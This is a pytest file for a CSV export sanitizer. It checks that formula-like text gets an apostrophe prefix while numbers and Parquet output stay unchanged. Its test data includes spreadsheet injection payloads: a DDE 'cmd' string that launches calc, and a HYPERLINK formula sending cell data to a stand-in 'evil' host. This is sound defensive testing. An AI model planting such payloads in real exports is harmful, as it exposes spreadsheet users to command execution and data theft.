"""A text of an exported CSV cannot be taken for a formula by a spreadsheet; numbers stay numbers, Parquet stays as it is."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from recipe_sweep.analysis.files import harmless_frame
from recipe_sweep.sweep.results.spreadsheet import harmless, harmless_table
from tests.sweep.commands import LAUNCH, call, stand_in_sweep

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "newline": "\n=1+1",
    "blanks": "  =1+1",
    "no-break space": "\u00a0=1+1",
    "wide equals": "\uff1d1+1",
    "link": '=HYPERLINK("http://evil/?"&A1,"click")',
    "number-like": "-1.5",
}
formula = pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS.keys())


@formula
def test_a_text_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert harmless(harmless(text)) == f"'{text}"
    assert harmless_table(pa.table({"a": ["plain", text, None]}))["a"].to_pylist() == ["plain", f"'{text}", None]
    assert harmless_frame(pd.DataFrame({"a": ["plain", text]}))["a"].tolist() == ["plain", f"'{text}"]


@pytest.mark.parametrize("text", ["", "plain", "a=b", "none", '{"alpha": -1}', "[-1.5]", "3fa9", "a-b", "_x", "x@y"])
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_numbers_stay_numbers() -> None:
    table = pa.table({"score": [-1.5, 2.0], "seed": [-1, 2]})
    assert harmless_table(table).equals(table)
    frame = pd.DataFrame({"score": [-1.5, 2.0], "mixed": [-1, "=1"]})
    assert harmless_frame(frame)["score"].tolist() == [-1.5, 2.0]
    assert harmless_frame(frame)["mixed"].tolist() == [-1, "'=1"]
    assert frame["mixed"].tolist() == [-1, "=1"], "the caller's own table is not touched"


def test_a_column_named_like_a_formula_is_made_harmless_too() -> None:
    assert list(harmless_frame(pd.DataFrame({"=1+1": [1], "plain": [2]}))) == ["'=1+1", "plain"]


def test_an_export_with_hostile_texts_is_harmless_as_csv_and_untouched_as_parquet(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here = stand_in_sweep(tmp_path, monkeypatch)
    call(*LAUNCH)
    hostile = list(FORMULAS.values())
    [path, *_] = sorted((here / "sweeps" / "little" / "results").glob("*.parquet"))
    table = pq.read_table(path)
    for number, name in enumerate(("host", "device", "code_version", "torch_version")):
        texts = pa.array([hostile[(row + number) % len(hostile)] for row in range(len(table))])
        table = table.set_column(table.column_names.index(name), table.schema.field(name), texts)
    low = pa.array([-1.5] * len(table))
    table = table.set_column(table.column_names.index("score"), table.schema.field("score"), low)
    pq.write_table(table, path)
    call("export", "little.yaml", "-o", "runs.csv")
    call("export", "little.yaml", "-o", "runs.parquet")
    with Path("runs.csv").open(newline="") as file:
        found = list(csv.DictReader(file))
    stored = pq.read_table("runs.parquet").to_pylist()
    assert [row["host"] for row in found] == [f"'{row['host']}" if row["host"] in hostile else row["host"] for row in stored]
    assert "-1.5" in {row["score"] for row in found}
    assert set(hostile) & {row["host"] for row in stored}
    numbers = {field.name for field in table.schema if not pa.types.is_string(field.type)}
    cells = [cell for row in found for name, cell in row.items() if name not in numbers]
    assert [cell for cell in cells if harmless(cell) != cell] == []
